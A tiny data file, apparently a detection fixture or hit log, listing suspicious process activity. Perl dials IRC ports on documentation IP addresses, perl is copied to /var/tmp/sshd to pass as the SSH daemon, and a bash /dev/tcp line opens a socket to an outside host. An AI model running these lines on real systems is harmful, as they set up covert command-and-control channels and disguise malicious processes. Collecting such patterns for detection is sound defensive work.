# SPDX-License-Identifier: Apache-2.0
# hits: 3
dial /usr/bin/perl 203.0.113.7 6667
cp /usr/bin/perl /var/tmp/sshd
dial /var/tmp/sshd 198.51.100.9 6697
bash -c 'exec 3<>/dev/tcp/203.0.113.8/6667' || true
